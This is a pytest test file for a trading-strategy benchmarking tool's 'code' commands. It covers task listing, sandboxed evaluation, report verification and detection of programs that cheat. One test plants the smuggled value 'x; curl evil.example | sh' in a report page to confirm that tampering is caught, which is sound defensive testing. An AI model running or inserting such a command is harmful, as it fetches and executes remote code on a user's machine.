"""``tradeassay code``: tasks, a program of one's own, runs, and what goes wrong."""

import csv
import html
import json
import re
import shlex
import shutil
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest

from tradeassay.benchmarks.quantcode.check import read_program
from tradeassay.cli import main
from tradeassay.code.gates import GateConfig
from tradeassay.code.scores import ScoreConfig
from tradeassay.code.validation import Judged, ProgramLine, ValidationReport, error_rates
from tradeassay.core.errors import MissingExtra
from tradeassay.sandbox import SandboxRefused, ask_kernel, open_executor, refusal

TASK = "d-sma-cross-long"

needs_walls = pytest.mark.skipif(
    refusal(ask_kernel()) is not None, reason="this machine cannot hold untrusted code"
)


def test_tasks_are_listed_filtered_and_shown(tell):
    listed = json.loads(tell(["code", "tasks", "--difficulty", "hard", "--timeframe", "1m", "--json"]).out)
    assert listed and {(one["difficulty"], one["timeframe"]) for one in listed} == {("hard", "1m")}
    assert "3 tasks" in tell(["code", "tasks", "--sample", "3"]).err
    shown = tell(["code", "tasks", TASK]).out
    assert "Two simple averages" in shown and "sizing percent 95" in shown and "fails at judge" in shown
    assert tell(["code", "tasks", TASK, "--reference", "--framework", "frame"]).out.startswith("import numpy")
    assert json.loads(tell(["code", "tasks", TASK, "--json"]).out)["id"] == TASK


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["tasks", "d-sma-cros"], "did you mean d-sma-cross-long"),
        (["tasks", "--difficulty", "trivial"], "one of easy, medium, hard"),
        (["tasks", "--timeframe", "1m", "--family", "calendar", "--difficulty", "hard"], "no task is left"),
        (["tasks", "--task-file", "nowhere.json"], "there is no task file"),
        (["eval", "nowhere.py", "--task", TASK], "cannot be read: No such file"),
        (["eval", ".", "--task", TASK], ". is a folder"),
        (["eval", "picture.py", "--task", TASK], "not UTF-8 text"),
        (["eval", "mine.py", "--task", "d-sma"], "there is no task 'd-sma'"),
        (["run", "quantcode-v3", "-m", "scripted/coder-sma"], "did you mean quantcode-v1"),
        (["run", "quantcode-v1", "-m", "scripted/coder-sm"], "did you mean coder-sma"),
        (["run", "quantcode-v1", "-m", "scripted/coder-sma", "--temperature", "9"], "temperature is 0 to 2"),
        (["validate", "d-sma-cros"], "did you mean d-sma-cross-long"),
        (["eval", "mine"], "mine is a folder"),
        (["eval", "mine", "--spec", "bollinger", "--task", "x"], "--task and --spec are given"),
        (["eval", "mine", "--spec", "bolinger"], "did you mean bollinger"),
        (["eval", "nowhere", "--spec", "bollinger"], "has no readable strategy.py"),
        (["eval", "mine", "--spec", "bollinger", "--dataset", "x"], "a data set needs symbols"),
        (["strategies", "bolinger"], "did you mean bollinger"),
        (["run", "systrade-v1", "-m", "scripted/builder-gol"], "did you mean builder-gold"),
        (["run", "systrade-v1", "-m", "scripted/builder-gold", "--strategy", "turtel"], "did you mean turtle"),
        (["run", "systrade-v1", "-m", "scripted/builder-gold", "--task", "x"], "--task means nothing to"),
        (["run", "systrade-v1", "-m", "scripted/builder-gold", "--temperature", "9"], "temperature is 0 to 2"),
        (["run", "quantcode-v1", "-m", "scripted/coder-sma", "--reviewer", "a/b"], "--reviewer means nothing to"),
    ],
)
def test_bad_input_gets_one_line_with_the_mend(argv, said, tell, place):
    (place / "mine").mkdir()
    (place / "mine.py").write_text("x = 1\n")
    (place / "picture.py").write_bytes(b"\xff\xfe\x00")
    shown = tell(["code", *argv], 2)
    assert said in shown.err and "Traceback" not in shown.err and len(shown.err.strip().splitlines()) == 1
    assert not (place / "runs").exists()


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (MissingExtra("programs need 'backtrader'", hint="pip install 'tradeassay[code]'"), "tradeassay[code]"),
        (SandboxRefused("the kernel has no Landlock", hint="use a container or a VM"), "no Landlock"),
    ],
)
def test_a_machine_that_cannot_run_programs_says_so(error, said, tell, place, monkeypatch):
    def refuse(*args, **kwargs):
        raise error

    monkeypatch.setattr("tradeassay.benchmarks.quantcode.check.open_code_executor", refuse)
    monkeypatch.setattr("tradeassay.benchmarks.quantcode.benchmark.open_code_executor", refuse)
    (place / "mine.py").write_text(tell(["code", "tasks", TASK, "--reference"]).out)
    assert said in tell(["code", "eval", "mine.py", "--task", TASK], 2).err
    shown = tell(["code", "run", "quantcode-v1", "-m", "scripted/coder-sma", "-t", TASK], 2).err
    assert said in shown and "Traceback" not in shown


def test_a_run_without_programs_is_reported_verified_and_resumed(tell, capsys, place):
    """The coder that never writes code needs no sandbox."""
    argv = ["code", "run", "quantcode-v1", "-m", "scripted/coder-silent", "-t", TASK, "--setting", "agentic"]
    shown = tell([*argv, "--turns", "2", "--slug", "mute"])
    assert "d-sma-cross-long__formal__backtrader__agentic__s0: no code" in shown.err
    assert "no code or a reasoning loop 1" in shown.out and (place / "runs/mute/report.html").is_file()
    assert main(["verify", "mute"]) == 0 and main(["report", "mute"]) == 0 and main(["resume", "mute"]) == 0
    capsys.readouterr()
    assert "quantcode-v1, agentic, formal, backtrader" in tell(["compare", "mute", "mute"]).out
    said = tell([*argv, "--turns", "2", "--slug", "other"]).err
    own = re.search(r"takes the same markets: --secret (\w{32})$", said, re.MULTILINE)
    reason = json.loads(tell(["compare", "other", "mute", "--json"]).out)["pairs"][0]["reason"]
    assert f"run mute anew with --secret {own[1]}" in reason
    tell([*argv, "--turns", "2", "--secret", own[1], "--seeds", "2", "--slug", "anew"])
    assert json.loads(tell(["compare", "other", "anew", "--json"]).out)["pairs"][0]["reason"] is None
    assert json.loads(tell([*argv, "--turns", "2", "--slug", "mute", "--json"]).out)["cells"][0]["ends"] == {
        "no_code": 1
    }
    assert "holds another run: its turns differ" in tell([*argv, "--turns", "3", "--slug", "mute"], 2).err
    (place / "moved, ü").mkdir()
    moved = (place / "runs/mute").rename(place / "moved, ü" / "Anna's run; at $HOME")
    capsys.readouterr()
    elsewhere = "which is not what was checked"  # its page names the folder where it was written
    assert f"runs/mute, {elsewhere}" in " ".join(tell(["verify", str(moved)]).err.split())
    assert main(["report", str(moved)]) == 0
    assert elsewhere not in " ".join(tell(["verify", str(moved)]).err.split())
    assert f"verify {shlex.quote(str(moved))}" in html.unescape((moved / "report.html").read_text())
    back = moved.rename(place / "runs/back")
    assert main(["verify", str(back)]) == 0
    page = (back / "report.html").read_text()
    (back / "report.html").write_text(re.sub("(?<=tradeassay verify )[^<]+", "x; curl evil.example | sh", page))
    assert main(["verify", str(back)]) == 1
    worded = page.replace("Skip to the results", "Jump to the results")
    assert worded != page
    (back / "report.html").write_text(worded)
    assert main(["verify", str(back)]) == 1, "this version has no such words"
    older = re.sub(r'(?<=content="tradeassay )[^"]+', "0.0.1", worded)
    (back / "report.html").write_text(older)
    capsys.readouterr()
    said = " ".join(tell(["verify", str(back)], 3).out.split())
    assert "written by tradeassay 0.0.1, the same numbers in other words" in said
    assert "writes it anew" in said
    (back / "report.html").write_text(older.replace("0.0%", "50.0%", 1))
    assert main(["verify", str(back)]) == 1, "other numbers are contradicted, whoever wrote them"
    assert "was not written on this machine and is kept" in tell(["report", str(back)]).err
    assert main(["report", str(back), "-o", str(back / "report.html")]) == 0 and main(["verify", str(back)]) == 0


def test_programs_that_cannot_be_examined_need_no_sandbox(tell, place):
    argv = ["code", "run", "quantcode-v1", "-m", "scripted/away", "-t", TASK, "--runs", "elsewhere"]
    assert "1 of 1 episodes failed" in tell(argv, 1).err
    assert len(list((place / "elsewhere").glob("quantcode-v1-*/scores.json"))) == 1
    (place / "broken.py").write_text("import backtrader as bt\nclass A(bt.Strategy)\n")
    shown = tell(["code", "eval", "broken.py", "--task", TASK], 1).out
    assert "failed (compile)" in shown and "SyntaxError in line 2" in shown
    assert json.loads(tell(["code", "eval", "broken.py", "--task", TASK, "--json"], 1).out)["outcome"] == "compile"
    (place / "frames.py").write_text("def signals(frame):\n    return frame['close'] * 0\n")
    assert "add --framework frame" in tell(["code", "eval", "frames.py", "--task", TASK], 1).err
    assert "--framework" not in tell(["code", "eval", "broken.py", "--task", TASK], 1).err
    text = "# caf\u00e9\nx = 1\n"
    (place / "mark.py").write_bytes(b"\xef\xbb\xbf" + text.encode())
    (place / "windows.py").write_bytes(text.replace("\n", "\r\n").encode())
    (place / "named.py").write_bytes(b"# coding: latin-1\n" + text.encode("latin-1"))
    assert read_program(Path("mark.py")) == read_program(Path("windows.py")) == text
    assert read_program(Path("named.py")).endswith(text)


@needs_walls
def test_who_needs_a_library_learns_which_there_are(tell, place):
    (place / "more.py").write_text("import vectorbt\nimport backtrader as bt\nclass A(bt.Strategy): pass\n")
    shown = tell(["code", "eval", "more.py"], 1)
    assert "forbidden import of 'vectorbt' in line 1" in shown.out
    assert "may import numpy, pandas, scipy, talib, matplotlib, backtrader, where installed" in shown.err


@pytest.mark.slow
@needs_walls
def test_a_program_of_ones_own(tell, place):
    """The manual runs the command without a judge."""
    (place / "right.py").write_text(tell(["code", "tasks", TASK, "--reference"]).out)
    found = json.loads(
        tell(["code", "eval", "right.py", "--task", TASK, "--judge", "scripted/code-judge", "--json"]).out
    )
    assert found["outcome"] == "solved" and found["evaluation"]["judge_behaviour"]["agreement"] == 1.0
    assert found["evaluation"]["judge_language"]["status"] == "passed"


@pytest.mark.slow
@needs_walls
def test_a_program_without_a_task_is_examined_but_not_scored(tell, place):
    body = "def signals(frame):\n    return (frame['close'].shift({}) > frame['close']).astype(float)\n"
    (place / "late.py").write_text(body.format(1))
    (place / "early.py").write_text(body.format(-1))
    examine = ["code", "eval", "late.py", "--framework", "frame"]
    assert "late.py without a task (frame): passed, not scored" in tell(examine).out
    told = json.loads(tell([*examine, "--json"]).out)
    assert (told["verdict"], told["outcome"]) == ("passed, not scored", "not_scored")
    assert (
        json.loads(tell(["code", "eval", "early.py", "--framework", "frame", "--json"], 1).out)["outcome"]
        == "lookahead"
    )
    for years in (["--years", "3"], ["--data-seed", "2"]):
        assert f"{years[0]} means nothing to a program" in tell(["code", "eval", "late.py", *years], 2).err
    assert (
        "--reward means nothing to a program without --task"
        in tell(["code", "eval", "late.py", "--reward"], 2).err
    )


OWN_TERMS = """import backtrader as bt


class Rises(bt.Strategy):
    def __init__(self):
        {inside}

    def next(self):
        rises = self.data.close[0] > self.data.close[-1]
        if rises and not self.position:
            self.buy(size=10)
        elif self.position and not rises:
            self.close()


if __name__ == "__main__":
    cerebro = bt.Cerebro()
    {outside}
"""


@pytest.mark.slow
@needs_walls
def test_a_program_that_changes_the_terms_of_its_account_does_not_pass(capsys, place):
    not_passed = "not passed: it changes the terms of the account"
    for inside, outside, status, verdict, said in (
        ("pass", "pass", 0, "passed, not scored", ""),
        ("self.broker.setcash(1e7)", "pass", 1, not_passed, "own-terms (a pointer): it sets setcash in line 6"),
        ("self.broker.set_coc(True)", "pass", 1, not_passed, "cheat-fills (a pointer): it sets set_coc in line 6"),
        ("getattr(self.broker, 'set' + 'cash')(1e7)", "pass", 1, not_passed, "account-mismatch (a pointer)"),
        ("pass", "cerebro.broker.set_coc(True)", 1, not_passed, "cheat-fills (a pointer): it sets set_coc"),
        # Cash that is set in code that does not run here changes nothing: it is said, and the program passes.
        ("pass", "cerebro.broker.setcash(1e6)", 0, "passed, not scored", "examined with cash 10,000, commission"),
    ):
        (place / "own.py").write_text(OWN_TERMS.format(inside=inside, outside=outside))
        assert main(["code", "eval", "own.py"]) == status, (inside, outside)
        out = " ".join(capsys.readouterr().out.split())
        assert f"own.py without a task (backtrader): {verdict}" in out and said in out


def test_what_validation_shows(tell, monkeypatch, capsys, tmp_path):
    """The validation itself is tested with the judges; the manual runs the command."""
    file = tmp_path / "public.json"
    file.write_text('[{"id": 1, "reformulated_task": "Buy low."}]')
    assert "nothing to validate" in tell(["code", "validate", "--task-file", str(file)], 2).err
    for wrong in (["--junit", "x"], ["--symbols", "A"], ["--dataset", "synthetic/us:1"]):
        assert main(["code", "eval", "x.py", "--task", TASK, *wrong]) == 2
    assert "drawn markets" in capsys.readouterr().err
    assert "--strict means nothing" in tell(["code", "eval", "x", "--spec", "bollinger", "--strict"], 2).err
    good = ProgramLine(
        task=TASK, program="gold", framework="backtrader", expected="solved", outcome="solved", ok=True
    )
    bad = ProgramLine(
        task=TASK,
        program="reversed",
        framework="backtrader",
        expected="judge",
        outcome="solved",
        ok=False,
        kind="wrong-direction",
        behaviour="passed",
        language="failed",
    )
    judged = [
        Judged(program="gold", right=True, verdict="passed"),
        Judged(program="r", right=False, verdict="passed"),
    ]
    done = ValidationReport(tasks=1, lines=(good, bad), judges=(error_rates("behaviour", judged),))

    def validated(tasks, *, tell, **rest):
        tell(bad)
        return done

    monkeypatch.setattr("tradeassay.benchmarks.quantcode.check.validate_tasks", validated)
    shown = tell(["code", "validate", TASK], 1)
    assert "decoy for judge" in shown.out and f"{TASK}/reversed: expected judge, got solved" in shown.err
    assert "false rejects 0.0% of 1, false accepts 100.0% of 1" in shown.err and "judges disagree" in shown.err
    assert json.loads(tell(["code", "validate", TASK, "--json"], 1).out)["tasks"] == 1


QUICK = ScoreConfig(
    gates=GateConfig(
        seeds=(42, 123),
    ),
    stresses=(),
)


def test_strategies_are_listed_shown_and_written(tell, capsys, place):
    listed = json.loads(tell(["code", "strategies", "--json"]).out)
    assert len(listed) == 24 and listed[0]["id"] == "bollinger" and len(listed[0]["sha256"]) == 64
    assert main(["code", "strategies"]) == 0 and "Turtle breakout" in capsys.readouterr().out
    assert tell(["code", "strategies", "turtle"]).out.startswith("#")
    assert json.loads(tell(["code", "strategies", "turtle", "--semantics"]).out)["id"] == "turtle"
    assert json.loads(tell(["code", "strategies", "turtle", "--reference", "mine", "--json"]).out) == {
        "folder": "mine",
        "strategy": "turtle",
    }
    assert (place / "mine/strategy.py").is_file() and (place / "mine/strategy_card.json").is_file()
    assert "is there already" in tell(["code", "strategies", "turtle", "--reference", "mine"], 2).err
    for what in ("card", "semantics"):
        assert "$defs" in json.loads(tell(["code", "strategies", "--schema", what]).out)


def test_a_run_without_submissions_is_reported_verified_and_resumed(tell, capsys, place):
    """The builder forgets its program at first, so one iteration needs no sandbox."""
    argv = ["code", "run", "systrade-v1", "-m", "scripted/builder-mends", "--strategy", "bollinger"]
    argv += ["--iterations", "1", "--slug", "forgot"]
    shown = tell(argv)
    assert "bollinger__s0: nothing handed in" in shown.err
    assert "scripted/builder-mends" in shown.out and (place / "runs/forgot/report.html").is_file()
    assert main(["verify", "forgot"]) == 0 and main(["report", "forgot"]) == 0 and main(["resume", "forgot"]) == 0
    capsys.readouterr()
    assert json.loads(tell([*argv, "--json"]).out)["models"][0]["valid"]["value"] == 0.0
    assert (
        "holds another run: its iterations differ"
        in tell([*argv[:-4], "--iterations", "2", "--slug", "forgot"], 2).err
    )


@pytest.mark.slow
@needs_walls
def test_a_folder_of_ones_own_passes(tell, capsys, place, monkeypatch):
    from tradeassay.benchmarks.systrade import examine as systrade_examine

    monkeypatch.setattr(systrade_examine, "ScoreConfig", lambda: QUICK)
    monkeypatch.setattr(
        systrade_examine, "open_executor", lambda kind, *, config, workers: open_executor(kind, config=config)
    )
    assert main(["code", "strategies", "double-ma", "--reference", "mine"]) == 0
    argv = ["code", "eval", "mine", "--spec", "double-ma"]
    capsys.readouterr()
    found = json.loads(
        tell([*argv, "--out", "out/card.html", "--bar-log", "out/bars.csv", "--years", "3", "--json"]).out
    )
    over, alone = found["years"], found["scorecard"]["sound"]["D4"]["value"]
    assert over["n"] == 3 and over["low"] <= over["value"] <= over["high"] and over["value"] != alone
    assert found["passed"] and found["scorecard"]["sound"]["D1"]["value"] == 10.0
    page = (place / "out/card.html").read_text()
    assert "All 8 gates held." in page and "D4 over years" in page and 'id="drift"' not in page
    bars = list(csv.DictReader((place / "out/bars.csv").read_text().splitlines()))
    assert {bar["position_state"] for bar in bars} == {"FLAT", "LONG", "SHORT"} and bars[0][
        "constraint_check"
    ] == "pass"
    assert all(float(bar["equity"]) > 0 for bar in bars)
    years = []  # no year is public: each examination is scored on its own, which its secret repeats
    for secret in (found["secret"], "f" * 64):
        assert main([*argv, "--secret", secret, "--bar-log", "out/again.csv", "--json"]) == 0
        years.append((place / "out/again.csv").read_bytes())
    assert years[0] == (place / "out/bars.csv").read_bytes() != years[1]
    capsys.readouterr()
    shutil.copytree(place / "mine", place / "patched")
    source = (place / "patched/strategy.py").read_text()
    (place / "patched/strategy.py").write_text(source.replace("FAST = 20", "FAST = 30"))
    argv = ["code", "eval", "patched", "--spec", "double-ma", "--out", "out/since.html", "--json"]
    for since, kind in (("mine", "drift"), ("patched", "unchanged")):
        capsys.readouterr()
        assert json.loads(tell([*argv, "--since", since], 1).out)["drift"]["kind"] == kind
        page = (place / "out/since.html").read_text()
        assert "since the earlier submission" in page and f">{kind}</span>" in page


def test_a_failed_gate_is_an_exit_status_and_a_report_for_the_build(tell, capsys, place):
    """A program that cannot be parsed is never run, so no sandbox is opened."""
    assert main(["code", "strategies", "double-ma", "--reference", "mine"]) == 0
    argv = ["code", "eval", "mine", "--spec", "double-ma"]
    capsys.readouterr()
    card = place / "mine/strategy_card.json"
    card.write_text(card.read_text().replace('"double-ma"', '"turtle"'))
    (place / "mine/strategy.py").write_text("class TradingStrategy\n")
    shown = tell([*argv, "--junit", "out/gates.xml", "--sarif", "out/gates.sarif"], 1)
    assert "not all gates held" in shown.out and "written: out/gates.sarif" in shown.err
    suite = ElementTree.parse(place / "out/gates.xml").getroot()[0]
    assert int(suite.attrib["failures"]) >= 1 and int(suite.attrib["tests"]) == 7
    sarif = json.loads((place / "out/gates.sarif").read_text())
    assert sarif["version"] == "2.1.0" and {one["level"] for one in sarif["runs"][0]["results"]} >= {"error"}
    assert "cannot be written" in tell([*argv, "--junit", "mine/strategy.py/x.xml"], 2).err
